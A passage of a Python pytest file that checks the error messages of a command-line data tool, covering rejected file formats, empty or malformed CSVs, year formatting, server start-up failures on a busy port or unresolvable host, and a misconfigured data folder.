                   "w", "--wide", "--region", "reg", "--year", "2020"], capsys, "no header")
    assert "ragged" not in err


def test_UM5_messages_name_the_real_format(tmp_path, t_csv, capsys) -> None:
    ws = ["--workspace", str(tmp_path / "w.duckdb"), "--name", "w"]
    parquet = tmp_path / "t.parquet"
    pd.read_csv(t_csv).to_parquet(parquet)
    refused(["ingest", str(parquet), *ws, "--wide", "--region", "reg", "--year", "2020"],
            capsys, "Parquet")
    book = tmp_path / "t.xlsx"
    pd.read_csv(t_csv).to_excel(book, index=False)
    refused(["ingest", str(book), *ws, "--microdata", *ROLES], capsys, ".xlsx")
    refused(["ingest", str(write(tmp_path / "e.csv", "\n")), *ws, "--microdata", *ROLES],
            capsys, "empty")
    refused(["indicators", str(write(tmp_path / "d.csv", "year,reg,reg,val\n2020,R1,A1,5\n")),
             *ROLES, "--out", str(tmp_path / "o")], capsys, "both called 'reg'")
    legacy = upload(own_page(create_app()), "old.xls", LEGACY_XLS)
    assert legacy.status_code == 422 and "legacy .xls" in legacy.json()["detail"]


def test_UM6_years_read_as_years_in_messages(tmp_path, capsys) -> None:
    years = write(tmp_path / "y.csv", "year,reg,act,val\n2019,R1,A1,5\n2020,R1,A1,3\n"
                                      "2019,R2,A1,5\n2020,R2,A1,3\n")
    err = refused(["transfer", str(years), *ROLES, "--sources", "R1", "--from-year", "2020",
                   "--to-year", "2019", "--out", str(tmp_path / "tr.csv")], capsys,
                  "from_year=2020", "to_year=2019")
    assert "np." not in err


def test_UM7_serve_fails_before_announcing_a_busy_port(capsys, no_server) -> None:
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen(1)
        port = str(busy.getsockname()[1])
        code, out, err = run(["serve", "--port", port], capsys)
    assert code != 0 and not no_server
    assert_one_error(err)
    assert "cannot listen" in err and "serving" not in out


def test_UM7_serve_fails_before_announcing_a_host_that_does_not_resolve(capsys,
                                                                        no_server) -> None:
    code, out, err = run(["serve", "--host", "no-such-host.invalid"], capsys)
    assert code != 0 and not no_server and "serving" not in out
    assert_one_error(err)
    assert "does not resolve" in err


def test_UM8_a_data_folder_that_is_a_file_is_reported(tmp_path, capsys, monkeypatch) -> None:
    monkeypatch.setenv("ADVANTAGE_DATA", str(write(tmp_path / "datafile", "")))
    code, out, err = run(["datasets", "list"], capsys)
    assert code == 0
    assert "ADVANTAGE_DATA" in err and "is not a folder" in err
    assert "pyecomplexity_trade" in out
